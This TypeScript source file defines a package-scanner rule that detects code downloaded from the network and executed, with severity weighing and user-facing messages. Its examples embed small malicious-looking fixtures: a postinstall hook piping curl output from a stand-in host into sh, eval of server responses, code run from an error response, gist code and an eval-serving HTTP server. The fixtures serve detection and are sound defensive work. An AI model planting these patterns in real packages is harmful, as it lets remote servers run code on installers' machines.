import { opensPages } from '../lib/opens-pages.ts'
import { HOLE } from '../lib/types.ts'
import type { Action, Context, Fact, Flow, Inspection, Rule } from '../lib/types.ts'
import { guardsInWords } from './behaviour/guards.ts'
import { isStranger, placeInWords, placeOf } from './behaviour/place.ts'
import type { Place } from './behaviour/place.ts'
import { isNamesake } from './hosts/namesake.ts'
import { oncePerLine } from './behaviour/once.ts'
import { findingsOf, isUnpacked, originOf } from './behaviour/sightings.ts'
import { loadsData } from './behaviour/loaded.ts'
import type { Sighting, SightingGroup } from './behaviour/sightings.ts'
import { isProgram, unasked } from './behaviour/written.ts'
import { destinationsInWords, findingAt, opening, severityOf } from './finding.ts'
import type { RuleFinding } from './finding.ts'

/** Code that is fetched from the network and run: what was inspected is not what executes. */
export const remoteCode: Rule = {
  meta: {
    id: 'remote-code',
    title: 'Downloads code and runs it',
    severity: 'critical',
    description:
      'What a server answers is handed to a shell, an interpreter or eval, often in an error handler where nobody looks. ' +
      'Whatever was read in this package, the program that runs is another one, chosen by that server at that moment, ' +
      'perhaps for this machine only. The same holds for code that arrives in a request to a server the package opens.',
    references: [
      'eslint-scope 3.7.2 (2018): https.get, then eval',
      'ua-parser-js 0.7.29 (2021)',
      'getcookies (2018): code in a request header',
      'Contagious Interview (2024-26): the answer of a JSON host in a catch block',
    ],
    blindSpots: ['A download that another program runs later.'],
    examples: {
      flags: [
        {
          title: 'what a registry knows of a package is deciphered and run, when called',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const { createDecipheriv } = require('crypto')\n" +
              'exports.notes = async (key, iv) => {\n' +
              "  const about = await (await fetch('https://registry.npmjs.org/a-notes')).json()\n" +
              "  const d = createDecipheriv('aes-256-cbc', key, iv)\n" +
              "  const text = d.update(about.keywords[0], 'base64', 'utf8') + d.final('utf8')\n" +
              "  Reflect.construct(Function, ['require', text])(require)\n" +
              '}\n',
          },
        },
        {
          title: 'a hook pipes a download into a shell',
          files: {
            'package.json':
              '{"name":"a","version":"1.0.0","scripts":{"postinstall":"curl -s https://get.a.invalid/i.sh | sh"}}',
          },
        },
        {
          title: 'a hook evaluates what a server answers',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}',
            'setup.js':
              "require('https').get('https://paste.invalid/raw', response => {\n" +
              "  response.on('data', chunk => eval(chunk.toString()))\n" +
              '})\n',
          },
        },
        {
          title: 'a module runs what an error answer carries',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}',
            'index.js':
              "const axios = require('axios')\n" +
              "axios.get('https://json.invalid/x').catch(error => new Function('require', error.response.data)(require))\n",
          },
        },
        {
          title: 'a function runs what somebody keeps in a gist',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}',
            'index.js':
              "exports.go = async () => new Function(await (await fetch('https://gist.githubusercontent.com/b/0/raw/c.js')).text())()\n",
          },
        },
        {
          title: 'a server runs what it is sent',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}',
            'index.js':
              "require('http').createServer((message, answer) => {\n  message.on('data', part => answer.end(String(eval(part.toString()))))\n}).listen(8080)\n",
          },
        },
      ],
      passes: [
        {
          title: 'a plugin is taken from a repository, as its service answers',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              'exports.load = async path => {\n' +
              '  const file = await (await fetch(`https://api.github.com/repos/${path}`)).json()\n' +
              "  return new Function('module', Buffer.from(file.content, 'base64').toString())\n" +
              '}\n',
          },
        },
        {
          title: 'a hook downloads data and writes it to a cache',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}',
            'setup.js':
              "const fs = require('fs')\n" +
              "fetch('https://data.a.example/list.json')\n" +
              '  .then(answer => answer.text())\n' +
              "  .then(text => fs.writeFileSync('list.json', text))\n",
          },
        },
        {
          title: 'a page emulator runs the scripts of the page its caller names',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}',
            'index.js':
              "const vm = require('vm')\n" +
              'exports.load = async url => vm.runInNewContext(await (await fetch(url)).text(), {})\n',
          },
        },
      ],
    },
  },
  check(inspection, context) {
    const sightings = inspection.flows.flatMap((flow): readonly Sighting[] => {
      const place =
        isRemoteCode(flow) && !loadsData(flow)
          ? originOf(flow, inspection, context)
          : isRequested(flow)
            ? placeOf([], inspection, context)
            : undefined
      if (place === undefined) return []
      const action = weigh(flow, place, inspection, isOwnUpdate(place, context))
      return action === undefined ? [] : [{ flow, place, action, severity: severityOf(action) }]
    })
    return oncePerLine([
      ...findingsOf(sightings, say),
      ...inspection.facts.flatMap(fact => ofLoad(fact, inspection, context)),
    ])
  },
}

/** A module or script by its address. Pages load libraries of others where their user calls for them. */
function ofLoad(fact: Fact, inspection: Inspection, context: Context): readonly RuleFinding[] {
  if (fact.kind !== 'loads' || fact.native || !unasked(fact) || isProgram(fact, inspection)) return []
  const addresses = fact.targets.filter(text => /^https?:\/\//.test(text))
  if (addresses.length === 0) return []
  const place = placeOf(addresses, inspection, context)
  if (!isStranger(place) || place.host === undefined) return []
  const message =
    `${opening(fact)} loads a program from ${place.host.shown} (${fact.api}); that is ${placeInWords(place)}` +
    `${guardsInWords(fact.guards)}. What was inspected here is not what would run, and it can change at any moment. ` +
    'Do not install it unless you know that host.'
  return [findingAt(fact.at, fact.phase, { action: 'ask', severity: 'high', message })]
}

/** Starts of interpreters: what they are fed is a program. */
const interpreter =
  /(?:^|[/\\\s])(?:ba|da|z|k|fi)?sh(?:\.exe)?(?:\s|$)|\b(?:cmd|powershell|pwsh|node|bun|deno|python[0-9.]*|perl|ruby|php|osascript|wscript|cscript|mshta)\b/i

/** What puts a text into the clipboard: PowerShell among such programs does the same. */
const copying = /^(?:\S*[/\\])?(?:pbcopy|xclip|xsel|wl-copy|clip(?:\.exe)?|termux-clipboard-set)\b/i

function isCopied(commands: readonly string[]): boolean {
  const others = commands.filter(command => /[a-z]/i.test(command) && !interpreter.test(command))
  return others.length >= 2 && others.every(command => copying.test(command))
}

/** A compiled addon that was downloaded: see download-and-run. */
function isCompiled({ kind, destinations }: Flow['sink']): boolean {
  return kind === 'load' && destinations.length > 0 && destinations.every(path => path.endsWith('.node'))
}

function isRemoteCode(flow: Flow): boolean {
  const { source, sink } = flow
  if (source.kind !== 'network' || opensPages(sink.api) || isCompiled(sink)) return false
  if (sink.kind === 'evaluate')
    return !/set(?:Timeout|Interval|Immediate)|nextTick/.test(sink.api) && !quoted.test(sink.at.code)
  if (sink.kind === 'command-stdin')
    return sink.destinations.some(command => interpreter.test(command)) && !isCopied(sink.destinations)
  // The whole command line is the answer; an argument among constant words is data.
  if (sink.kind === 'command' && sink.role === 'command') return sink.destinations.every(isComputed)
  // What was unpacked is a program with files of its own: whether that is honest depends on where it came from.
  return sink.kind === 'load' && sink.role !== 'path' && !isUnpacked(flow)
}

/** `"return {" + names.map(name => JSON.stringify(name) …`: names of columns, quoted inside an object the code writes. */
const quoted =
  /["'`][^"'`]{0,80}[{[]\s{0,9}["'`]\s{0,9}\+\s{0,9}[\w$.]{1,60}\.map\(\s{0,9}(?:function\s{0,9}\([^()]{0,40}\)\s{0,9}\{\s{0,9}return\s{1,9}|(?:\([^()]{0,40}\)|[\w$]{1,40})\s{0,9}=>\s{0,9})JSON\.stringify\(/

function isComputed(command: string): boolean {
  const words = command.replaceAll('\u0001', ' ').trim()
  return words === '' || interpreter.test(words.split(/\s+/)[0] ?? '')
}

/** Code that a request to this program carries. A timer that gets a function is no evaluation. */
function isRequested({ source, sink, hops }: Flow): boolean {
  const fromCaller = source.kind === 'caller' || source.kind === 'caller-secret'
  // A file lay there before anybody asked for it by its name.
  if (hops.some(({ label }) => label === 'read from the file of that name')) return false
  // `request cookie` is the header of that name, `request to a server` what a server of the package's own gets.
  if (!fromCaller || !/^(?:req|request)(?: |$)/i.test(source.name)) return false
  if (sink.kind === 'evaluate') return !/set(?:Timeout|Interval|Immediate)|nextTick/.test(sink.api)
  return sink.kind === 'command' && sink.role === 'command' && sink.destinations.every(isComputed)
}

/** A host called as the package is, or its scope: where its own command fetches its update from, say. */
function isOwnUpdate({ host, kind }: Place, { name, lists }: Context): boolean {
  return kind === 'own' && host !== undefined && isNamesake(host, name, lists)
}

/** An address without a host is asked of the server that a page came from: the files beside it. Node refuses it. */
function isBeside({ source }: Flow, { kind }: Place): boolean {
  return kind === 'unknown' && /^(?:\.{0,2}\/)?(?:[\w@-]+\/){0,8}[\w@.-]+\.(?:m?js|wasm)$/.test(source.name)
}

/** In a large bundle any answer may seem to reach any call: nothing says that this one does, or where it came from. */
function isGuess(flow: Flow, { kind }: Place): boolean {
  return !flow.certain && kind === 'unknown' && isFar(flow)
}

/**
 * A program that lies where everybody may leave texts, and does not look like one there. Services answer in base64; what
 * a registry knows of a package is no program in any spelling.
 */
function isHidden({ hops, certain }: Flow, { kind }: Place): boolean {
  const spelling =
    kind === 'supply'
      ? /^(?:base64|hex|deciphered|xor|char-codes|reversed)$/
      : kind === 'service'
        ? /^(?:deciphered|xor|char-codes|reversed)$/
        : undefined
  return certain && spelling !== undefined && hops.some(({ label }) => spelling.test(label))
}

function isFar({ source, sink }: Flow): boolean {
  return source.at.path !== sink.at.path || Math.abs(source.at.line - sink.at.line) > 2_000
}

/** How Windows shows a page in the browser: what follows is an address in one word. */
const browsing = /^(?:cmd(?:\.exe)? \/(?:d \/s \/)?c )?start (?:""|\/b|\/wait)\s{1,3}"?\u0001"?$/

/** A program that was downloaded under a name the answer gave, and is started with arguments that are not the answer's. */
function isStartedFile({ source, sink }: Flow, { flows }: Inspection): boolean {
  if (sink.kind !== 'command' || !/spawn|execFile/.test(sink.api)) return false
  if (!sink.destinations.every(command => command.trim().includes(' '))) return false
  return !flows.some(
    other =>
      other.sink.role === 'argument' &&
      other.sink.at.path === sink.at.path &&
      other.sink.at.line === sink.at.line &&
      other.source.kind === 'network' &&
      other.source.name === source.name,
  )
}

/** Consoles of debuggers run what they are sent, in a context of its own, where somebody started them for that. */
function weighRequested(flow: Flow, { facts }: Inspection): Action {
  const { certain, phase, byCall, sink } = flow
  if (flow.source.name === 'request in a chat') return certain ? 'ask' : 'note'
  // Clients call what they send a request, too: that it comes from others has to be seen as well.
  if (!certain && sink.api === 'global:Function' && !facts.some(({ kind }) => kind === 'listens'))
    return 'note'
  if (!certain) return phase === 'run' && isFar(flow) ? 'note' : 'ask'
  return phase === 'run' && !byCall && /\bvm\.runIn(?:New)?Context$/.test(sink.api) ? 'ask' : 'block'
}

function weigh(flow: Flow, place: Place, inspection: Inspection, namesake: boolean): Action | undefined {
  if (isRequested(flow)) return weighRequested(flow, inspection)
  if (place.kind === 'local') return undefined
  if (place.kind !== 'capture' && flow.sink.destinations.some(command => browsing.test(command)))
    return 'note'
  if (isBeside(flow, place) || isGuess(flow, place)) return 'note'
  if (flow.phase === 'run' && place.kind !== 'capture' && isStartedFile(flow, inspection)) return 'note'
  // A page's loader compiles the scripts the page names; their addresses stand in no package.
  if (flow.sink.api.startsWith('script.') && place.kind === 'unknown') return 'note'
  if (!flow.byCall && flow.phase !== 'run') return flow.certain ? 'block' : 'ask'
  // An emulator or loader runs what its caller names; a host written in the code was not the caller's choice.
  if (place.kind === 'capture') return flow.certain ? 'block' : 'ask'
  if (namesake) return 'note'
  if (isChat(place)) return flow.certain ? 'ask' : 'note'
  if (isHidden(flow, place)) return 'ask'
  return isStranger(place) || isAnybodys(place, inspection) ? (flow.certain ? 'ask' : 'note') : undefined
}

/** Where people talk: a bot that runs what is said there, obeys whoever says it. */
function isChat({ host }: Place): boolean {
  return host !== undefined && chats.has(host.name)
}

const chats: ReadonlySet<string> = new Set([
  'discord.com',
  'api.telegram.org',
  'slack.com',
  'web.whatsapp.com',
])

/** Where everybody keeps code under a name of their own: it is the package's where its repository's keeper does. */
function isAnybodys({ host, kind }: Place, { manifest: { repository = '' } }: Inspection): boolean {
  if (kind !== 'service' || host === undefined) return false
  if (!/^(?:gist|raw)\.githubusercontent\.com$|^gist\.github\.com$/.test(host.name)) return false
  const [, keeper = ''] = host.path.split('/')
  if (keeper === '' || keeper.includes(HOLE)) return false
  return !repository.toLowerCase().replace(':', '/').includes(`/${keeper.toLowerCase()}/`)
}

function say(group: SightingGroup): string {
  const [{ flow, place, action }] = group
  const { api } = flow.sink
  if (isRequested(flow)) {
    const said =
      flow.source.name === 'request in a chat' ? 'what somebody says in a chat' : 'what a request carries'
    const what = `${opening(flow)} runs ${said} (${api})${guardsInWords(flow.guards)}.`
    return action === 'note'
      ? what
      : `${what} Anybody who can reach that program can run code on its machine. Do not install it.`
  }
  const where = place.host?.shown ?? destinationsInWords([flow.source.name])
  const what =
    `${opening(flow)} fetches code from ${where}` +
    `${place.host === undefined ? '' : `, ${placeInWords(place)}`}, and runs it (${api})${guardsInWords(flow.guards)}.`
  return action === 'note'
    ? what
    : `${what} What was inspected here is not what would run, and it can change at any moment. Do not install it.`
}
